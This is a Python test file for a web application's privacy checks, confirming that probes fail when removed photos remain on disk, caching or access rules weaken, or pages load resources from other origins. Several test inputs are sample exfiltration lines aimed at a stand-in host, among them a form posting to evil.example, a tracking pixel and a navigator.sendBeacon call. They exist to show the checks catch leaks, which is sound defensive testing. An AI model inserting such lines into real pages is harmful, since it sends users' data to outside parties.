"""The probes of photos and of foreign origins turn red when a copy stays or a page loads from elsewhere."""

import os
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from accounts import my_profile, photo_files, queries

Watch = Callable[[str], Any]
Change = Callable[[str, str, str], None]


@pytest.fixture(autouse=True)
def media(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def test_a_removed_photo_stays_on_the_disk(site: None, turns_red: Watch):
    with turns_red("photo_removal", leaves="a file"):
        photo_files.announce_removal("k" * 22)
        long_ago = time.time() - 90
        os.utime(photo_files.folder() / "going" / ("k" * 22), (long_ago, long_ago))


def test_a_browser_keeps_a_photo_for_an_hour(site: None, turns_red: Watch, monkeypatch: pytest.MonkeyPatch):
    with turns_red("photo_removal"):
        monkeypatch.setattr(my_profile, "CACHED", "public, max-age=3600")


def test_the_photo_of_somebody_who_left_is_shown(site: None, turns_red: Watch, monkeypatch: pytest.MonkeyPatch):
    honest = queries.public_person
    with turns_red("photo_removal"):
        monkeypatch.setattr(queries, "public_person", lambda user: replace(honest(user), photo_url="/photo/"))


def test_every_name_of_a_photo_opens_a_door(site: None, turns_red: Watch, monkeypatch: pytest.MonkeyPatch):
    with turns_red("photo_removal"):
        monkeypatch.setattr(my_profile.read_queries, "find_member_photo", lambda key: True)
        monkeypatch.setattr(photo_files, "read", lambda key, size: b"picture")


@pytest.mark.parametrize(
    ("path", "new"),
    [
        ("templates/site.html", '<script src="https://connect.facebook.net/sdk.js"></script>'),
        ("templates/landing_extra.html", "<img alt='' src='//evil.example/p.gif'>"),
        ("templates/extra.html", '<link rel="stylesheet" href="https://fonts.example/f.css">'),
        ("templates/extra.html", '<form method="post" action="https://evil.example/">'),
        ("static/css/extra.css", "a{background:url(https://evil.example/a.png)}"),
        ("static/js/core/extra.js", 'import x from "https://cdn.example/x.js";'),
        ("static/js/core/extra.js", "navigator.sendBeacon('//evil.example/', 1)"),
    ],
)
def test_a_page_loads_from_elsewhere(site: None, turns_red: Watch, change_file: Change, path: str, new: str):
    with turns_red("no_third_party"):
        change_file(path, "", new)


def test_the_policy_of_pages_lets_another_origin_in(site: None, turns_red: Watch, monkeypatch: pytest.MonkeyPatch):
    from privacy.promises import pages

    honest = pages.look_at

    def look(path: str) -> Any:
        page = honest(path)
        page["Content-Security-Policy"] += "; img-src https://cdn.example"
        return page

    with turns_red("no_third_party"):
        monkeypatch.setattr(pages, "look_at", look)
